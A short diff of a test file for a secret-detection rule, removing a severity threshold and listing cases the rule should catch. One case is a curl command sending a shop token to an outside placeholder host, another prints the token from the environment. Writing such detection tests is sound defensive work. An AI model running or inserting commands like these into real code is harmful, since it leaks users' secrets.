@@ -2,7 +2,6 @@ import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-case
 import { secretInTheOpen } from './secret-in-the-open.rule.ts';
 
 describeCodeRule(secretInTheOpen, {
-  atLeast: 'LOW',
   caught: [
     sh('curl "https://api.other.example.invalid/?token=$SHOP_TOKEN"'),
     py('import os\nprint(os.environ["SHOP_TOKEN"])'),
